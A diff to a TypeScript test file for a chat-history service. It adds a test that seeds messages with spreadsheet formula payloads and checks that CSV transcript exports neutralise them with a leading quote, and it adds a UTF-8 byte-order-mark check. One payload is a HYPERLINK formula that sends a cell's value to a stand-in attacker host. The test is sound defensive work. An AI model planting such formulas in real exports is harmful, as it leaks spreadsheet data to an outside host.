@@ -1,5 +1,6 @@
 /** Chat history calls (§7): filters, the filtered load-more list, the transcript and the chat actions. */
 import { randomUUID } from 'node:crypto';
+import { asc, eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { beforeEach, expect, it } from 'vitest';
 import { THRESHOLDS } from '@switchboard/contracts/common/constants';
@@ -7,7 +8,9 @@ import {
   chatLogDataSchema, filtersDataSchema, filtersQueryDataSchema, HISTORY_PATHS, HISTORY_TEXTS, type ChatLogSummary, type FiltersQueryBody,
 } from '@switchboard/contracts/history/history.schemas';
 import { TEXTS } from '@switchboard/contracts/common/texts';
+import { chatMessages } from '@/db/schema/chat-messages';
 import { chatTags } from '@/db/schema/chat-tags';
+import { readCsv } from '@/lib/csv';
 import { HISTORY_CHAT_COUNT, HISTORY_CONVERSATIONS } from '@/seed/history-seed';
 import { describeBackends } from '@/testing/backends';
 import { callerFor, dataOf, denyRoute, seedTestHistory, type Caller } from './history.test-kit';
@@ -217,6 +220,27 @@ describeBackends('chat history', (context) => {
     expect((await qa.call('POST', HISTORY_PATHS.userProfileWidgets, { sessionId: randomUUID() })).statusCode).toBe(404);
   });
 
+  it("writes a customer's formula into the transcript CSV as inert text (OWASP CSV injection)", async () => {
+    const [chat] = await all({ ...wholeRange, search: 'refund', handledBy: 'agent' });
+    // The chat's two customer messages, then its first agent message (a formula on a second line too).
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)', '=1+1\nsecond line'];
+    const lines = await context.database.db.select({ chatlogId: chatMessages.chatlogId, sender: chatMessages.sender }).from(chatMessages)
+      .where(eq(chatMessages.sessionId, chat!.sessionId)).orderBy(asc(chatMessages.seq));
+    const targets = [...lines.filter((line) => line.sender === 'customer').slice(0, 2), lines.find((line) => line.sender === 'admin')];
+    for (const [index, text] of hostile.entries()) {
+      expect(targets[index], `message ${index}`).toBeDefined();
+      await context.database.db.update(chatMessages).set({ content: { text } }).where(eq(chatMessages.chatlogId, targets[index]!.chatlogId));
+    }
+    const csv = await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'csv' });
+    const file = await qa.call('GET', dataOf<{ downloadUrl: string }>(csv).downloadUrl);
+    const messages = readCsv(file.body).slice(1).map((row) => row.cells[4]);
+    expect(messages).toEqual(expect.arrayContaining([`'${hostile[0]}`, `'${hostile[1]}`, `'${hostile[2]}`]));
+    // Every cell a spreadsheet would run as a formula starts with the quote instead.
+    const cells = readCsv(file.body).flatMap((row) => row.cells);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(file.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+  });
+
   it('downloads a transcript as a real CSV and XLSX file behind the session', async () => {
     const [chat] = await all({ ...wholeRange, search: 'refund', handledBy: 'agent' });
     const csv = await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'csv' });
@@ -225,8 +249,10 @@ describeBackends('chat history', (context) => {
     const file = await qa.call('GET', downloadUrl);
     expect(file.statusCode).toBe(200);
     expect(file.headers['content-type']).toContain('text/csv');
-    const lines = file.body.trim().split('\n');
+    const lines = file.body.trim().split('\r\n');
     expect(lines[0]).toBe('Time,Sender,Name,Type,Message,Intent,Confidence,Vote');
+    // A byte-order mark first (the body's decoder drops it), so Excel reads non-ASCII names as UTF-8.
+    expect([...file.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(file.body).toContain('I am still waiting for my refund.');
     expect(file.body).toContain('refund_status');
     expect((await context.app.inject({ method: 'GET', url: downloadUrl })).statusCode).toBe(401);
